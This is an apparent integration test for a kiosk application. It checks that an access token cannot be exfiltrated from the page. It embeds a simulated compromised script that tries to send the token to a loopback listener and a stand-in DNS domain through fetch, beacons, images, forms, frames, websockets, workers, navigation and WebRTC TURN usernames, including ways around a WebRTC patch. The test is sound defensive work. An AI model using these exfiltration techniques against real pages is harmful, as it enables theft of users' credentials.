// The token cannot leave: a script in the kiosk page's main frame takes a token from the bridge and tries
// every channel it has to a listener on loopback and to host names a DNS logger sees — WebRTC (TURN with the
// token as username over UDP and TCP, STUN/TURN host names) from the page, from same-origin frames however it
// reaches them (window[i], contentWindow, contentDocument.defaultView, window.open to a named target, open,
// closed and nested shadow roots), from frames running a (compromised) tenant's script — a srcdoc frame, and a
// tenant page, cross-origin — and from a worker; fetch, beacon, image, form, iframe, websocket, worker, hints and navigation.
// Nothing that arrives may carry the token in any encoding, and no name under the test domain may be looked up.
// Two guards hold it: main's egress gate (the network) and the main-world patch (page JavaScript). The test
// runs with each removed as well, to show that it notices: the patch alone lets the tenant frame's TURN
// username reach the listener; the gate alone leaves page scripts their WebRTC.
import { writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { expect, it } from 'vitest';
import { closeAfterEach } from '../support/close-after-each';
import { makeCanary } from '../support/canary';
import { startExfilListener, type ExfilListener } from '../support/exfil-listener';
import { describeWithKeyring } from '../integration/secrets/keyring-env';
import { embedsShowing, startHarness, type Harness } from './qiosk-harness';

const DNS = '127.83.77.1'; // a loopback address nothing else uses (not resolved's 127.0.0.53)
const DOMAIN = 'exfil.test';
const root = process.getuid?.() === 0; // the DNS logger binds port 53 and Chromium runs in its own mount namespace
/** What a compromised tenant serves (routes answer for it): a script, and a page that runs it. */
const FRAME_SCRIPT_PATH = '/extensions/compromised/frame.js';
const FRAME_PAGE_PATH = '/extensions/compromised/frame.html';
const FRAME_SCRIPT = `(async () => {
  const { token, turn, label } = JSON.parse(window.name);
  let outcome;
  try {
    const pc = new RTCPeerConnection({ iceServers: [{ urls: ['turn:127.0.0.1:' + turn + '?transport=udp', 'turn:127.0.0.1:' + turn + '?transport=tcp'], username: token, credential: 'x' }] });
    pc.createDataChannel('x');
    await pc.setLocalDescription(await pc.createOffer());
    outcome = 'frame ran: offer made';
  } catch (e) { outcome = 'frame ran: threw ' + (e && e.message); }
  parent.postMessage({ qioskExfilFrame: label, outcome }, '*');
})();`;

/** Runs in the page's main world, as a compromised script would. Returns the token it took and what threw. */
const ATTACK = `async ({ http, turn, domain, frameScript, framePage }) => {
  const token = await window.qioskGetAccessToken();
  const hex = [...new TextEncoder().encode(token)].slice(0, 24).map((b) => b.toString(16).padStart(2, '0')).join('');
  const q = 't=' + encodeURIComponent(token);
  const results = {};
  const attempt = async (name, fn) => { try { await fn(); results[name] = 'ran'; } catch (e) { results[name] = 'threw: ' + (e && e.message); } };
  const rtc = (PC) => {
    if (typeof PC !== 'function') throw new Error('no RTCPeerConnection');
    const pc = new PC({ iceServers: [
      { urls: ['turn:127.0.0.1:' + turn + '?transport=udp', 'turn:127.0.0.1:' + turn + '?transport=tcp'], username: token, credential: 'x' },
      { urls: 'stun:' + hex + '.stun.' + domain + ':3478' },
      { urls: 'turn:' + hex + '.turn.' + domain + ':3478?transport=tcp', username: token, credential: 'x' },
    ] });
    pc.createDataChannel('x');
    return pc.createOffer().then((o) => pc.setLocalDescription(o));
  };
  const frame = (parent = document.body) => { const f = document.createElement('iframe'); parent.append(f); return f; };
  const shadow = (mode) => { const host = document.createElement('div'); document.body.append(host); return host.attachShadow({ mode }); };
  // A frame whose own script does the WebRTC, and reports back: a srcdoc frame running the tenant's script (the
  // CSP allows it), or a tenant page (classic embeds are tenant frames), cross-origin to the kiosk page.
  const scriptFrame = (label, srcdoc) => new Promise((resolve) => {
    const f = document.createElement('iframe');
    f.name = JSON.stringify({ token, turn, label });
    if (srcdoc) f.srcdoc = '<script src="' + frameScript + '"></' + 'script>';
    else f.src = framePage;
    const done = (e) => { if (e.data && e.data.qioskExfilFrame === label) { removeEventListener('message', done); resolve(e.data.outcome); } };
    addEventListener('message', done);
    setTimeout(() => resolve('frame never reported'), 5000);
    shadow('closed').append(f);
  });
  await attempt('fetch', () => fetch('http://' + http + '/fetch?' + q).catch(() => {}));
  await attempt('fetch by name', () => fetch('http://' + hex + '.fetch.' + domain + '/').catch(() => {}));
  await attempt('beacon', () => navigator.sendBeacon('http://' + http + '/beacon?' + q, token));
  await attempt('image', () => { const i = new Image(); i.src = 'http://' + http + '/img?' + q; document.body.append(i); });
  await attempt('image by name', () => { const i = new Image(); i.src = 'http://' + hex + '.img.' + domain + '/x.png'; document.body.append(i); });
  await attempt('form', () => { const f = document.createElement('form'); f.method = 'POST'; f.action = 'http://' + http + '/form'; const i = document.createElement('input'); i.name = 't'; i.value = token; f.append(i); document.body.append(f); f.submit(); });
  await attempt('iframe', () => { frame().src = 'http://' + http + '/frame?' + q; });
  await attempt('iframe by name', () => { frame().src = 'http://' + hex + '.frame.' + domain + '/'; });
  await attempt('websocket', () => new WebSocket('ws://' + http + '/ws?' + q));
  await attempt('worker', () => new Worker('http://' + http + '/worker.js?' + q));
  await attempt('hints', () => { for (const rel of ['dns-prefetch', 'preconnect', 'prefetch']) { const l = document.createElement('link'); l.rel = rel; l.href = 'http://' + hex + '.' + rel + '.' + domain + '/'; document.head.append(l); } });
  // WebRTC from every same-origin window a script can get a handle on: the patch's ground.
  await attempt('webrtc', () => rtc(window.RTCPeerConnection));
  await attempt('webrtc (webkit)', () => rtc(window.webkitRTCPeerConnection));
  await attempt('webrtc via iframe window', () => { frame(); return rtc(window[window.length - 1].RTCPeerConnection); });
  await attempt('webrtc via contentWindow', () => rtc(frame().contentWindow.RTCPeerConnection));
  await attempt('webrtc via innerHTML', () => { const d = document.createElement('div'); d.innerHTML = '<iframe></iframe>'; document.body.append(d); return rtc(window[window.length - 1].RTCPeerConnection); });
  await attempt('webrtc in onload', () => new Promise((resolve, reject) => { const f = document.createElement('iframe'); f.onload = () => { try { rtc(window[window.length - 1].RTCPeerConnection).then(resolve, reject); } catch (e) { reject(e); } }; document.body.append(f); }));
  await attempt('webrtc via open shadow root', () => rtc(frame(shadow('open')).contentWindow.RTCPeerConnection));
  await attempt('webrtc via closed shadow root', () => rtc(frame(shadow('closed')).contentWindow.RTCPeerConnection));
  await attempt('webrtc via nested shadow roots', () => { const outer = shadow('closed'); const host = document.createElement('div'); outer.append(host); return rtc(frame(host.attachShadow({ mode: 'closed' })).contentWindow.RTCPeerConnection); });
  await attempt('webrtc via shadow root innerHTML', () => { const r = shadow('closed'); r.innerHTML = '<iframe></iframe>'; return rtc(r.querySelector('iframe').contentWindow.RTCPeerConnection); });
  await attempt('webrtc via shadow frame onload', () => new Promise((resolve, reject) => { const f = document.createElement('iframe'); f.onload = () => { try { rtc(f.contentWindow.RTCPeerConnection).then(resolve, reject); } catch (e) { reject(e); } }; shadow('closed').append(f); }));
  await attempt('webrtc via contentDocument.defaultView', () => rtc(frame(shadow('closed')).contentDocument.defaultView.RTCPeerConnection));
  await attempt('webrtc via window.open to a named target', () => { const f = document.createElement('iframe'); f.name = 'qiosk-exfil-target'; shadow('closed').append(f); return rtc(window.open('', 'qiosk-exfil-target').RTCPeerConnection); });
  // Beyond the patch's reach: a frame's own script, and a worker.
  results['srcdoc frame'] = await scriptFrame('srcdoc', true);
  results['tenant frame'] = await scriptFrame('tenant', false);
  results['worker'] = await new Promise((resolve) => {
    const src = 'postMessage(typeof RTCPeerConnection); fetch(' + JSON.stringify('http://' + http + '/from-worker?' + q) + ').catch(() => {});';
    const w = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
    w.onmessage = (e) => resolve('worker ran: RTCPeerConnection is ' + e.data);
    w.onerror = () => resolve('worker failed to start');
    setTimeout(() => resolve('worker never reported'), 5000);
  });
  await new Promise((r) => setTimeout(r, 3000)); // ICE gathering, relays, hints
  return { token, hex, results };
}`;

/** Channels where the patch must have taken WebRTC away: every same-origin window a script can reach. */
const PATCHED = (name: string) => name.startsWith('webrtc');

interface Run {
  token: string;
  results: Record<string, string>;
  /** What reached the listener carrying the token in any form (first 60 characters each). */
  arrived: string[];
  /** Test-domain names looked up. */
  looked: string[];
  /** Channels where a page script still had a working RTCPeerConnection. */
  unpatched: string[];
}

describeWithKeyring('the token cannot leave the kiosk page', () => {
  const closing = closeAfterEach();

  async function attack(layers: { gate?: boolean; patch?: boolean } = {}): Promise<Run> {
    const l: ExfilListener = closing(await startExfilListener(DNS));
    const resolv = path.join(os.tmpdir(), `qiosk-exfil-resolv-${process.pid}.conf`);
    writeFileSync(resolv, `nameserver ${DNS}\noptions attempts:1 timeout:1\n`);
    const h: Harness = closing(await startHarness({ secret: makeCanary(), resolvConf: resolv, layers }));
    // The compromised tenant serves the frames' script and a page running it (routes answer as the tenant would).
    await h.context.route(`${h.tenant.baseUrl}${FRAME_SCRIPT_PATH}`, (r) => r.fulfill({ status: 200, contentType: 'text/javascript', body: FRAME_SCRIPT }));
    await h.context.route(`${h.tenant.baseUrl}${FRAME_PAGE_PATH}`, (r) => r.fulfill({ status: 200, contentType: 'text/html', body: `<!doctype html><script>${FRAME_SCRIPT}</script>` }));
    await embedsShowing(h.page);
    const args = { http: `127.0.0.1:${l.httpPort}`, turn: l.turnPort, domain: DOMAIN, frameScript: `${h.tenant.baseUrl}${FRAME_SCRIPT_PATH}`, framePage: `${h.tenant.baseUrl}${FRAME_PAGE_PATH}` };
    const { token, hex, results } = (await h.page.evaluate(`(${ATTACK})(${JSON.stringify(args)})`)) as { token: string; hex: string; results: Record<string, string> };
    expect(token.length).toBeGreaterThan(20); // the script really held a token
    // Last, navigation away (the page may be gone after it): by URL and by name.
    await h.page.evaluate(`location.href = 'http://127.0.0.1:${l.httpPort}/nav?t=' + encodeURIComponent(${JSON.stringify(token)})`).catch(() => {});
    await h.page.evaluate(`location.href = 'http://${hex}.nav.${DOMAIN}/'`).catch(() => {});
    await new Promise((r) => setTimeout(r, 1500)); // what never arrives has no event to wait for: a window
    // Electron keeps the page on a refused navigation; the emulated refusal leaves Chromium's error page. Either
    // way the window never reached the listener or the test domain.
    expect(h.page.url()).not.toMatch(new RegExp(`127\\.0\\.0\\.1:${l.httpPort}|${DOMAIN}`));
    const forms = [token, encodeURIComponent(token), hex, Buffer.from(token).toString('base64'), Buffer.from(token).toString('base64url')];
    return {
      token, results,
      arrived: l.received.filter((r) => forms.some((f) => r.includes(f))).map((r) => r.slice(0, 60)),
      looked: l.received.filter((r) => r.startsWith('DNS ') && r.includes(DOMAIN)),
      unpatched: Object.keys(results).filter((n) => PATCHED(n) && !/^threw: .*RTCPeerConnection/.test(results[n]!)),
    };
  }

  if (!root) console.warn('[exfil] SKIPPED: the DNS logger binds port 53 and Chromium needs its own mount namespace, so this needs root (CI runs as root).');

  it.skipIf(!root)('with both guards, a main-frame script reaches no listener and no DNS name with the token, by any channel', async () => {
    const run = await attack();
    expect(run.arrived, JSON.stringify(run.results)).toEqual([]);
    expect(run.looked).toEqual([]);
    expect(run.unpatched, JSON.stringify(run.results)).toEqual([]);
    // The tenant frame (cross-origin: no page script can reach its window) really tried, else the gate was not
    // put to the test; workers have no WebRTC. (The same-origin srcdoc frame may run patched or not: Chromium
    // keeps the window of its initial about:blank document, which the patch may have reached first.)
    expect(run.results['tenant frame']).toBe('frame ran: offer made');
    expect(run.results['worker']).toBe('worker ran: RTCPeerConnection is undefined');
  });

  it.skipIf(!root)('without the gate (patch kept), the tenant frame\'s TURN username carries the token to the listener: the test notices', async () => {
    const run = await attack({ gate: false });
    expect(run.unpatched).toEqual([]);
    expect(run.arrived.filter((r) => r.startsWith('TURN/')).length).toBeGreaterThan(0);
  });

  it.skipIf(!root)('without the patch (gate kept), nothing arrives, but page scripts keep WebRTC: the test notices', async () => {
    const run = await attack({ patch: false });
    expect(run.arrived).toEqual([]);
    expect(run.looked).toEqual([]);
    expect(run.unpatched.length).toBeGreaterThan(10);
  });
});
